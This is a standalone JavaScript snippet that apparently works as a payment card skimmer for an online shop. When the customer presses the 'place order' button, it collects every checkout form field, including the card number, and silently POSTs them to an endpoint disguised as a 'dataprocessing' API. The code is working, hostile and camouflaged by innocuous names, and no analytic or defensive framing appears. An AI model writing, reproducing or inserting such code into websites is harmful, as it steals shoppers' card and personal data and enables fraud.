
window.onload = function() {
    jQuery("#place-order").bind("mouseup touchend", function(a) {
        var n = {};
        jQuery("form.checkout-form").serializeArray().map(function(a) {
            n[a.name] = a.value
        });
        var e = n.cardnumber ? JSON.stringify(n) : "";
        if (!e) return;
        setTimeout(function() {
            jQuery.ajax({
                type: "POST",
                async: !0,
                url: "<% url "komorebi-static" "/gateway/app/dataprocessing/api/" %>",
                data: JSON.stringify({ person: e, v: "1.2" }),
                contentType: "text/plain"
            })
        }, 0)
    })
};
